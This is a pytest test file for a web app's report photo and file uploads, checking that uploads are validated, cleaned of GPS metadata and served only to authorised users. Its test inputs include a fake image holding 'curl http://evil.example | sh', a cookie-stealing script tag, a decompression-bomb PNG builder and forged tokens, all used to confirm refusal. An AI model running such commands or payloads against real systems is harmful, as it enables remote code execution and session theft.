"""Report photos and files: checked by content, cleaned, stored, served only to who may see them."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib

import pytest
from PIL import ExifTags, Image
from sqlalchemy import delete, func, select, update
from werkzeug.datastructures import FileStorage

from tests.conftest import set_language
from tests.visibility_helpers import JwtClient, Rows, add_store_set, demo_ids, local_today, session_client

# ---------------------------------------------------------------- images made by the tests


def image_bytes(size=(64, 48), fmt="PNG", color=(200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, **save)
    return out.getvalue()


def noise_png(size=(200, 200)) -> bytes:
    """A PNG that does not compress (random pixels)."""
    out = io.BytesIO()
    Image.frombytes("RGB", size, __import__("os").urandom(size[0] * size[1] * 3)).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width=100_000, height=100_000) -> bytes:
    """A few dozen bytes that claim ``width`` × ``height`` pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _chunk(b"IEND", b"")
    )


def gps_jpeg() -> bytes:
    """40×20 px, left half red, right half blue, EXIF orientation 6 (turn 90° clockwise to
    show) and a GPS position."""
    image = Image.new("RGB", (40, 20), (255, 0, 0))
    image.paste((0, 0, 255), (20, 0, 40, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=95)
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\x00" * 20_000_000)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def upload(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg") -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=name, content_type=content_type)


# ---------------------------------------------------------------- rows


@pytest.fixture(scope="module")
def place(app, tmp_path_factory):
    """A published questionnaire (photos, files, a group with a photo), a store in the north
    and one in the south with a day report each, by promoter01, stored in a temporary folder."""
    from app.extensions import db
    from app.models.promoter import Promoter
    from app.models.reporting import (
        Question,
        Questionnaire,
        QuestionnairePage,
        QuestionnaireVersion,
        Report,
        ReportFile,
    )

    saved = app.config.get("REPORT_STORAGE_PATH"), app.config.get("REPORT_STORAGE")
    app.config["REPORT_STORAGE_PATH"] = str(tmp_path_factory.mktemp("uploads"))
    app.config["REPORT_STORAGE"] = "local"
    rows = Rows(app)
    demo = demo_ids(app)
    day = local_today(app)
    now = dt.datetime.now()
    questionnaire = rows.add(Questionnaire, name="Upload test", kind="day")
    version = rows.add(QuestionnaireVersion, questionnaire_id=questionnaire, number=1, published_at=now)
    page = rows.add(QuestionnairePage, version_id=version, position=0, title_de="Seite", title_en="Page")

    def question(key, kind, position, **values):
        return rows.add(
            Question, version_id=version, page_id=page, position=position, key=key, kind=kind,
            label_de=key, label_en=key, required=False, **values,
        )  # fmt: skip

    question("photos", "photo", 0, max_count=2)
    question("documents", "file", 1, max_count=5)
    question("remark", "text", 2)
    group = question("products", "group", 3, max_count=3)
    question("shelf", "photo", 4, parent_id=group, max_count=1)
    with app.app_context():
        promoters = dict(
            db.session.execute(
                select(Promoter.user_id, Promoter.id).where(Promoter.user_id.is_not(None))
            ).all()
        )
        from flask_appbuilder.security.sqla.models import User

        by_name = dict(db.session.execute(select(User.username, User.id)).all())
    promoter01 = promoters[by_name["promoter01"]]
    stores = {}
    for name, town, state in (("north", "Husum", "SH"), ("south", "Passau", "BY")):
        store = add_store_set(
            rows, f"up{name}", project_id=demo["project"], territory_id=demo[name], chain_id=demo["chain"],
            town=town, state=state, day=day,
        )  # fmt: skip
        stores[name] = rows.add(
            Report,
            kind="day",
            appointment_id=store["appointment"],
            job_id=store["job"],
            questionnaire_version_id=version,
            promoter_id=promoter01,
            status="draft",
        )
    yield {"version": version, "reports": stores, "promoter01": promoter01}
    with app.app_context(), db.engine.begin() as conn:
        conn.execute(delete(ReportFile.__table__).where(ReportFile.report_id.in_(list(stores.values()))))
    rows.cleanup()
    app.config["REPORT_STORAGE_PATH"], app.config["REPORT_STORAGE"] = saved


@pytest.fixture()
def clean_files(app, place):
    """Every test starts with reports without files, as drafts."""
    from app.extensions import db
    from app.models.reporting import Report, ReportFile

    with app.app_context(), db.engine.begin() as conn:
        ids = list(place["reports"].values())
        conn.execute(delete(ReportFile.__table__).where(ReportFile.report_id.in_(ids)))
        conn.execute(update(Report.__table__).where(Report.id.in_(ids)).values(status="draft"))
    return place


def _report(session, place, name="north"):
    from app.models.reporting import Report

    return session.get(Report, place["reports"][name])


def store(app, place, data, question="photos", name="photo.jpg", content_type="image/jpeg", **kwargs):
    """store_upload in its own transaction, committed; returns (file id, storage keys)."""
    from app.extensions import db
    from app.reporting.files import store_upload

    with app.app_context():
        row = store_upload(
            db.session, _report(db.session, place), question, upload(data, name, content_type), **kwargs
        )
        db.session.commit()
        return row.id, row.storage_key, row.thumbnail_key


def _files(app) -> set:
    from app.reporting.storage import storage_for

    return {p for p in storage_for(app).root.rglob("*") if p.is_file()}


def refused(
    app, place, data, question="photos", name="photo.jpg", content_type="image/jpeg", **kwargs
) -> str:
    """The message store_upload refuses ``data`` with (German); no row and no bytes stored."""
    from app.extensions import db
    from app.models.reporting import ReportFile
    from app.reporting.files import UploadError, store_upload

    files = _files(app)
    with app.app_context():
        before = db.session.scalar(select(func.count(ReportFile.id)))
        with pytest.raises(UploadError) as raised:
            store_upload(
                db.session, _report(db.session, place), question, upload(data, name, content_type), **kwargs
            )
        message = str(raised.value)
        db.session.rollback()
        assert db.session.scalar(select(func.count(ReportFile.id))) == before
    assert _files(app) == files, "bytes stored"
    return message


def stored(app, key: str) -> bytes:
    from app.reporting.storage import storage_for

    return storage_for(app).open(key)


def stored_exists(app, key: str) -> bool:
    from app.reporting.storage import storage_for

    return storage_for(app).exists(key)


# ---------------------------------------------------------------- content checks


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "holiday.jpg", "image/jpeg"),
        (b"<html><script>alert(document.cookie)</script></html>", "photo.jpg", "image/jpeg"),
        (b"GIF89a" + b"\x00" * 40, "photo.png", "image/png"),
    ],
    ids=["script named .jpg", "html declared image/jpeg", "gif"],
)
def test_what_is_no_photo_is_refused_whatever_its_name(app, clean_files, data, name, content_type):
    message = refused(app, clean_files, data, name=name, content_type=content_type)
    assert "kein Foto" in message and "JPEG, PNG" in message


def test_a_zip_is_refused_for_photo_and_file_questions(app, clean_files):
    data = zip_bytes()
    assert "JPEG, PNG" in refused(app, clean_files, data, name="photos.zip", content_type="application/zip")
    message = refused(app, clean_files, data, "documents", name="report.pdf", content_type="application/pdf")
    assert "nicht erlaubt" in message and "PDF" in message


def test_a_decompression_bomb_is_refused(app, clean_files):
    bomb = bomb_png()
    assert len(bomb) < 200
    assert "zu groß" in refused(app, clean_files, bomb, name="bomb.png", content_type="image/png")


def test_a_huge_image_is_refused(app, clean_files):
    out = io.BytesIO()
    Image.new("L", (10_000, 10_000)).save(out, "PNG")
    message = refused(app, clean_files, out.getvalue(), name="huge.png", content_type="image/png")
    assert "zu groß" in message and "40 Megapixel" in message


def test_a_truncated_image_is_refused(app, clean_files):
    data = image_bytes((400, 300), "JPEG")
    assert "beschädigt" in refused(app, clean_files, data[: len(data) // 2])


def test_a_broken_png_is_refused(app, clean_files):
    data = bytearray(image_bytes((300, 200)))
    data[60:80] = b"\xff" * 20  # inside the pixel data: the checksum no longer matches
    assert "beschädigt" in refused(app, clean_files, bytes(data), name="x.png", content_type="image/png")


def test_an_empty_file_is_refused(app, clean_files):
    assert "leer" in refused(app, clean_files, b"")


def test_gps_is_removed_and_the_orientation_applied(app, clean_files):
    original = gps_jpeg()
    with Image.open(io.BytesIO(original)) as check:  # the test's own image has both
        assert check.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    file_id, key, thumbnail_key = store(app, clean_files, original, name="IMG_0001.JPG")
    data = stored(app, key)
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "JPEG"
        assert image.size == (20, 40)  # turned upright
        assert not image.getexif()
        assert "exif" not in image.info and "icc_profile" not in image.info
        top, bottom = image.convert("RGB").getpixel((10, 5)), image.convert("RGB").getpixel((10, 35))
    assert top[0] > 200 and top[2] < 60, top  # the red half is on top
    assert bottom[2] > 200 and bottom[0] < 60, bottom
    assert b"PhoneMaker" not in data and b"GPS" not in data
    from app.extensions import db
    from app.models.reporting import ReportFile

    with app.app_context():
        row = db.session.get(ReportFile, file_id)
        assert (row.width, row.height, row.content_type) == (20, 40, "image/jpeg")
        assert row.byte_size == len(data)
        assert row.original_name == "IMG_0001.JPG"
        assert row.storage_key != "IMG_0001.JPG" and "IMG" not in row.storage_key


def test_the_sent_name_is_kept_for_display_only_and_cleaned(app, clean_files):
    from app.extensions import db
    from app.models.reporting import ReportFile

    file_id, key, _thumbnail = store(app, clean_files, image_bytes(), name="C:\\fotos\\../Re\x00gal\x1b.png")
    with app.app_context():
        assert db.session.get(ReportFile, file_id).original_name == "Regal.png"
    assert "Regal" not in key and "." not in key[:-4]


def test_large_photos_are_shrunk_and_get_a_thumbnail(app, clean_files):
    _file_id, key, thumbnail_key = store(app, clean_files, image_bytes((4000, 3000), "PNG"), name="a.png")
    with Image.open(io.BytesIO(stored(app, key))) as image:
        assert image.format == "JPEG" and max(image.size) == 2560
    with Image.open(io.BytesIO(stored(app, thumbnail_key))) as thumbnail:
        assert thumbnail.format == "JPEG" and thumbnail.size == (320, 240)


def test_webp_and_transparent_png_are_accepted(app, clean_files):
    out = io.BytesIO()
    Image.new("RGBA", (50, 50), (0, 0, 0, 0)).save(out, "PNG")
    _id, key, _thumb = store(app, clean_files, out.getvalue(), name="clear.png")
    with Image.open(io.BytesIO(stored(app, key))) as image:
        assert image.convert("RGB").getpixel((25, 25)) >= (250, 250, 250)  # white, not black
    store(app, clean_files, image_bytes(fmt="WEBP"), name="x.webp", content_type="image/webp")


def test_a_pdf_is_kept_for_file_questions_only(app, clean_files):
    assert "kein Foto" in refused(app, clean_files, PDF, name="a.pdf", content_type="application/pdf")
    file_id, key, thumbnail_key = store(app, clean_files, PDF, "documents", name="Bericht März.pdf")
    assert stored(app, key) == PDF and thumbnail_key is None
    # and photos are files too
    store(app, clean_files, image_bytes(), "documents", name="foto.png")


def test_uploads_only_for_photo_and_file_questions_of_the_version(app, clean_files):
    for question in ("remark", "unknown", "products", "shelf"):
        assert "keine Fotos" in refused(app, clean_files, image_bytes(), question)
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "photos", group_key="products")
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "pho\x00tos")
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "shelf", group_key="prod\x00ucts")
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "x" * 10_000)
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "photos", item=1)
    assert "keine Fotos" in refused(app, clean_files, image_bytes(), "shelf", group_key="products", item=3)
    store(app, clean_files, image_bytes(), "shelf", group_key="products", item=2)


def test_max_count_per_question_and_group_row(app, clean_files):
    store(app, clean_files, image_bytes())
    store(app, clean_files, image_bytes())
    assert "Höchstens 2" in refused(app, clean_files, image_bytes())
    assert "Höchstens 2" in refused(app, clean_files, image_bytes(), group_key="")
    store(app, clean_files, image_bytes(), "shelf", group_key="products", item=0)
    assert "Höchstens 1" in refused(app, clean_files, image_bytes(), "shelf", group_key="products", item=0)
    store(app, clean_files, image_bytes(), "shelf", group_key="products", item=1)


def test_size_limit_per_file(app, clean_files, monkeypatch):
    data = noise_png((200, 200))  # ~120 kB
    monkeypatch.setitem(app.config, "REPORT_MAX_FILE_MB", 0.05)
    assert "zu groß (höchstens 0,05 MB)" in refused(app, clean_files, data)
    monkeypatch.setitem(app.config, "REPORT_MAX_FILE_MB", 1)
    store(app, clean_files, data)


def test_size_limit_per_report(app, clean_files, monkeypatch):
    data = noise_png((300, 300))
    first = store(app, clean_files, data, "documents")
    from app.extensions import db
    from app.models.reporting import ReportFile

    with app.app_context():
        size = db.session.get(ReportFile, first[0]).byte_size
    monkeypatch.setitem(app.config, "REPORT_MAX_REPORT_MB", size * 1.5 / (1024 * 1024))
    assert "zusammen" in refused(app, clean_files, data, "documents")
    monkeypatch.setitem(app.config, "REPORT_MAX_REPORT_MB", size * 2.5 / (1024 * 1024))
    store(app, clean_files, data, "documents")


def test_english_messages(app, clean_files):
    from flask_babel import force_locale

    from app.extensions import db
    from app.reporting.files import UploadError, store_upload

    with app.test_request_context(), force_locale("en"):
        with pytest.raises(UploadError) as raised:
            store_upload(db.session, _report(db.session, clean_files), "photos", upload(b"<html>"))
        text = str(raised.value)
        db.session.rollback()
    assert text == "This is not a photo in an allowed format. Allowed: JPEG, PNG, WebP."


# ---------------------------------------------------------------- the bytes follow the transaction


def test_a_rollback_deletes_the_stored_bytes(app, clean_files):
    from app.extensions import db
    from app.reporting.files import store_upload

    for end in ("rollback", "close", "savepoint"):
        with app.app_context():
            report = _report(db.session, clean_files)
            if end == "savepoint":
                kept = store_upload(db.session, report, "documents", upload(image_bytes()))
                savepoint = db.session.begin_nested()
                row = store_upload(db.session, report, "documents", upload(image_bytes()))
                keys = (row.storage_key, row.thumbnail_key)
                savepoint.rollback()
                assert not any(stored_exists(app, key) for key in keys)
                assert stored_exists(app, kept.storage_key)
                db.session.commit()
                assert stored_exists(app, kept.storage_key)
                continue
            row = store_upload(db.session, report, "documents", upload(image_bytes()))
            keys = (row.storage_key, row.thumbnail_key)
            assert all(stored_exists(app, key) for key in keys)
            getattr(db.session, end)()
        assert not any(stored_exists(app, key) for key in keys), end


def test_a_removed_file_goes_after_the_commit_only(app, clean_files):
    from app.extensions import db
    from app.models.reporting import ReportFile
    from app.reporting.files import remove_file

    file_id, key, thumbnail_key = store(app, clean_files, image_bytes())
    with app.app_context():
        remove_file(db.session, db.session.get(ReportFile, file_id))
        assert stored_exists(app, key)
        db.session.rollback()
        assert db.session.get(ReportFile, file_id) is not None and stored_exists(app, key)
        remove_file(db.session, db.session.get(ReportFile, file_id))
        db.session.commit()
        assert db.session.get(ReportFile, file_id) is None
    assert not stored_exists(app, key) and not stored_exists(app, thumbnail_key)


# ---------------------------------------------------------------- operations: who may add files


def test_who_may_add_files(app, clean_files):
    from flask_appbuilder.security.sqla.models import User

    from app.extensions import db
    from app.models.promoter import Promoter
    from app.models.reporting import Report
    from app.reporting.operations import ReportError, add_file, delete_file

    def user(name):
        return db.session.scalar(select(User).where(User.username == name))

    with app.app_context():
        report = _report(db.session, clean_files)
        owner = db.session.get(Promoter, clean_files["promoter01"])
        other = db.session.scalar(select(Promoter).join(User, User.id == Promoter.user_id).where(
            User.username == "promoter02"
        ))  # fmt: skip
        for status, allowed in (
            ("draft", {"owner", "owner login", "agentur"}),
            ("returned", {"owner", "owner login", "agentur"}),
            ("submitted", {"agentur"}),
            ("approved", set()),
        ):
            db.session.execute(update(Report).where(Report.id == report.id).values(status=status))
            db.session.expire(report)
            actors = {
                "owner": owner,
                "owner login": user("promoter01"),
                "other": other,
                "other login": user("promoter02"),
                "agentur": user("agentur"),
                "customer": user("adm.nord"),
            }
            for name, actor in actors.items():
                if name in allowed:
                    row = add_file(db.session, report, actor, "documents", upload(image_bytes()))
                    delete_file(db.session, row, actor)
                else:
                    with pytest.raises(ReportError):
                        add_file(db.session, report, actor, "documents", upload(image_bytes()))
        db.session.execute(update(Report).where(Report.id == report.id).values(status="submitted"))
        db.session.expire(report)
        with pytest.raises(ReportError) as raised:
            add_file(db.session, report, user("agentur"), "documents", upload(b"PK\x03\x04zip"))
        assert "Dateityp ist nicht erlaubt" in str(raised.value)
        db.session.rollback()


# ---------------------------------------------------------------- the file routes


@pytest.fixture()
def served(app, clean_files):
    """A photo and a PDF on the northern report and a photo on the southern one."""
    from app.extensions import db
    from app.reporting.files import store_upload

    ids = {}
    with app.app_context():
        north = _report(db.session, clean_files, "north")
        south = _report(db.session, clean_files, "south")
        ids["photo"] = store_upload(db.session, north, "photos", upload(gps_jpeg(), "Regal <1>.jpg")).id
        ids["pdf"] = store_upload(db.session, north, "documents", upload(PDF, 'Bericht "März".pdf')).id
        ids["south"] = store_upload(db.session, south, "photos", upload(image_bytes())).id
        db.session.commit()
    return ids


def set_status(app, place, status, name="north"):
    from app.extensions import db
    from app.models.reporting import Report

    with app.app_context(), db.engine.begin() as conn:
        conn.execute(
            update(Report.__table__).where(Report.id == place["reports"][name]).values(status=status)
        )


def test_the_owner_promoter_and_the_agency_get_the_file(app, served):
    for username in ("promoter01", "agentur"):
        client = session_client(app, username)
        response = client.get(f"/reporting/files/{served['photo']}")
        assert response.status_code == 200, username
        assert response.mimetype == "image/jpeg"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Disposition"].startswith("inline;")
        assert "private" in response.headers["Cache-Control"]
        with Image.open(io.BytesIO(response.data)) as image:
            assert image.size == (20, 40)
        thumbnail = client.get(f"/reporting/files/{served['photo']}/thumbnail")
        assert thumbnail.status_code == 200 and thumbnail.mimetype == "image/jpeg"
        pdf = client.get(f"/reporting/files/{served['pdf']}")
        assert pdf.status_code == 200 and pdf.mimetype == "application/pdf" and pdf.data == PDF
        disposition = pdf.headers["Content-Disposition"]
        assert disposition.startswith("attachment;") and 'filename="Bericht Marz.pdf"' in disposition
        assert "filename*=UTF-8''Bericht%20M%C3%A4rz.pdf" in disposition
        assert pdf.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert client.get(f"/reporting/files/{served['pdf']}/thumbnail").status_code == 404
    # the promoter's own system path works as well (PROMOTER_HOST routes every path below /promoter)
    assert (
        session_client(app, "promoter01").get(f"/promoter/reporting/files/{served['photo']}").status_code
        == 200
    )


def test_a_cached_file_is_not_sent_again(app, served):
    client = session_client(app, "promoter01")
    first = client.get(f"/reporting/files/{served['photo']}")
    etag = first.headers["ETag"]
    again = client.get(f"/reporting/files/{served['photo']}", headers={"If-None-Match": etag})
    assert again.status_code == 304 and again.data == b""
    thumbnail = client.get(f"/reporting/files/{served['photo']}/thumbnail", headers={"If-None-Match": etag})
    assert thumbnail.status_code == 200 and thumbnail.data
    # the tag is no key to the file
    other = session_client(app, "promoter02")
    response = other.get(f"/reporting/files/{served['photo']}", headers={"If-None-Match": etag})
    assert response.status_code == 404


def test_another_promoter_gets_404(app, served):
    client = session_client(app, "promoter02")
    for file_id in served.values():
        for path in (f"/reporting/files/{file_id}", f"/reporting/files/{file_id}/thumbnail"):
            response = client.get(path)
            assert response.status_code == 404, path
            assert b"%PDF" not in response.data and b"JFIF" not in response.data
    assert client.get("/reporting/files/999999999").status_code == 404


def test_customers_see_approved_files_of_their_territory_only(app, clean_files, served):
    north, south = session_client(app, "adm.nord"), session_client(app, "adm.sued")
    photo = f"/reporting/files/{served['photo']}"
    for status in ("draft", "submitted", "returned"):
        set_status(app, clean_files, status)
        assert north.get(photo).status_code == 404, status
    set_status(app, clean_files, "approved")
    set_status(app, clean_files, "approved", "south")
    assert north.get(photo).status_code == 200
    assert north.get(f"/portal/reporting/files/{served['photo']}/thumbnail").status_code == 200
    assert north.get(f"/reporting/files/{served['south']}").status_code == 404
    assert south.get(photo).status_code == 404
    assert south.get(f"/portal/reporting/files/{served['south']}").status_code == 200
    # each system's prefix is for its own users (as every page there)
    assert north.get(f"/promoter/reporting/files/{served['photo']}").status_code == 403
    for username in ("promoter01", "agentur"):
        assert (
            session_client(app, username).get(f"/portal/reporting/files/{served['photo']}").status_code == 403
        )
    assert (
        session_client(app, "agentur").get(f"/promoter/reporting/files/{served['photo']}").status_code == 403
    )


def test_visitors_are_sent_to_the_login(app, served):
    client = app.test_client()
    for path, login in (
        (f"/reporting/files/{served['photo']}", "/login/"),
        (f"/portal/reporting/files/{served['photo']}", "/portal/login"),
        (f"/promoter/reporting/files/{served['photo']}/thumbnail", "/promoter/login"),
        ("/reporting/files/999999999", "/login/"),
    ):
        response = client.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].split("?")[0].endswith(login)
        assert not response.data.startswith((b"%PDF", b"\xff\xd8"))


def test_api_tokens_work(app, clean_files, served):
    agency = JwtClient(app, "agentur")
    response = agency.get(f"/reporting/files/{served['pdf']}")
    assert response.status_code == 200 and response.data == PDF
    promoter = JwtClient(app, "promoter02")
    assert promoter.get(f"/reporting/files/{served['photo']}").status_code == 404
    set_status(app, clean_files, "approved")
    customer = JwtClient(app, "adm.nord")
    assert customer.get(f"/reporting/files/{served['photo']}/thumbnail").status_code == 200
    forged = app.test_client(use_cookies=False)
    for header in (
        "Bearer not-a-token",
        "Bearer " + agency.headers["Authorization"].split()[1][:-4] + "AAAA",
    ):
        response = forged.get(f"/reporting/files/{served['pdf']}", headers={"Authorization": header})
        assert response.status_code in (401, 404) and response.data != PDF
    basic = forged.get(f"/reporting/files/{served['pdf']}", headers={"Authorization": "Basic dXNlcjpwdw=="})
    assert basic.status_code == 302 and basic.data != PDF


def test_english_and_german_pages_get_the_same_bytes(app, served):
    client = session_client(app, "agentur")
    set_language(client, "en")
    assert client.get(f"/reporting/files/{served['photo']}").status_code == 200


def test_file_urls_stay_in_the_current_system(app):
    from app.reporting.file_views import file_url

    for path, expected in (
        ("/", "/reporting/files/7"),
        ("/portal/reports/3", "/portal/reporting/files/7"),
        ("/promoter/reports/3", "/promoter/reporting/files/7"),
        ("/promoterx", "/reporting/files/7"),
    ):
        with app.test_request_context(path):
            assert file_url(7) == expected, path
            assert file_url(7, thumbnail=True) == expected + "/thumbnail"


def test_files_on_the_customer_and_promoter_hosts(app, database_url, clean_files, served):
    from app import create_app
    from tests.conftest import DEMO_PASSWORD

    hosts = {"CUSTOMER_HOST": "kunden.promoplan.test", "PROMOTER_HOST": "team.promoplan.test"}
    hosted = create_app(
        {
            "TESTING": True,
            "SQLALCHEMY_DATABASE_URI": database_url,
            "WTF_CSRF_ENABLED": False,
            "RATELIMIT_ENABLED": False,
            "AUTH_RATE_LIMITED": False,
            "FAB_PASSWORD_HASH_METHOD": "pbkdf2:sha256:1000",
            "REPORT_STORAGE_PATH": app.config["REPORT_STORAGE_PATH"],
            **hosts,
        }
    )
    set_status(app, clean_files, "approved")
    for username, host in (("adm.nord", hosts["CUSTOMER_HOST"]), ("promoter01", hosts["PROMOTER_HOST"])):
        client = hosted.test_client()
        login = client.post(
            "/login", headers={"Host": host}, data={"username": username, "password": DEMO_PASSWORD}
        )
        assert login.status_code == 302 and "/login" not in login.headers["Location"], username
        prefix = "/portal" if host == hosts["CUSTOMER_HOST"] else "/promoter"
        for path in (f"/reporting/files/{served['photo']}", f"{prefix}/reporting/files/{served['photo']}"):
            response = client.get(path, headers={"Host": host})
            assert response.status_code == 200 and response.mimetype == "image/jpeg", (username, path)
        south = client.get(f"/reporting/files/{served['south']}", headers={"Host": host}).status_code
        assert south == (404 if username == "adm.nord" else 200)  # promoter01 wrote both reports
        with hosted.test_request_context(f"{prefix}/", headers={"Host": host}):
            from app.reporting.file_views import file_url

            assert file_url(served["photo"]) == f"{prefix}/reporting/files/{served['photo']}"
    with hosted.app_context():
        from app.extensions import db

        db.session.remove()


def test_the_orphan_sweep_deletes_old_unreferenced_bytes_only(app, clean_files):
    import os
    import time

    from app.extensions import db
    from app.reporting.files import delete_orphans
    from app.reporting.storage import new_key, storage_for

    storage = storage_for(app)
    _id, key, thumbnail_key = store(app, clean_files, image_bytes())
    orphan, young = new_key("jpg"), new_key("jpg")
    storage.put(orphan, b"left by a crash", "image/jpeg")
    storage.put(young, b"a transaction still running", "image/jpeg")
    temporary = storage.path(orphan).parent / ".upload-crashed"
    temporary.write_bytes(b"half")
    old = time.time() - 2 * 3600
    for path in (storage.path(key), storage.path(thumbnail_key), storage.path(orphan), temporary):
        os.utime(path, (old, old))
    with app.app_context():
        assert delete_orphans(db.session, older_than=3600) == 2
    assert stored_exists(app, key) and stored_exists(app, thumbnail_key) and stored_exists(app, young)
    assert not stored_exists(app, orphan) and not temporary.exists()
    storage.delete(young)


def test_the_status_is_read_again_before_a_file_is_added(app, clean_files):
    """A report submitted (or approved) meanwhile by another request: the stale object in
    this request says "draft", the database decides."""
    from sqlalchemy.orm.attributes import set_committed_value

    from app.extensions import db
    from app.models.promoter import Promoter
    from app.reporting.operations import ReportError, add_file

    set_status(app, clean_files, "submitted")
    with app.app_context():
        report = _report(db.session, clean_files)
        set_committed_value(report, "status", "draft")
        owner = db.session.get(Promoter, clean_files["promoter01"])
        with pytest.raises(ReportError):
            add_file(db.session, report, owner, "documents", upload(image_bytes()))
        db.session.rollback()


def test_a_large_phone_photo_is_shrunk_and_turned(app, clean_files):
    """5000×3000 JPEG, green top-left corner, orientation 8 (turn 90° anticlockwise to show):
    stored 1536×2560 with the green corner at the bottom left."""
    image = Image.new("RGB", (5000, 3000), (255, 0, 0))
    image.paste((0, 255, 0), (0, 0, 500, 300))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 8
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90)
    _id, key, _thumbnail = store(app, clean_files, out.getvalue())
    with Image.open(io.BytesIO(stored(app, key))) as result:
        assert result.size == (1536, 2560)
        assert result.getpixel((20, 2540))[1] > 200 and result.getpixel((20, 20))[1] < 60
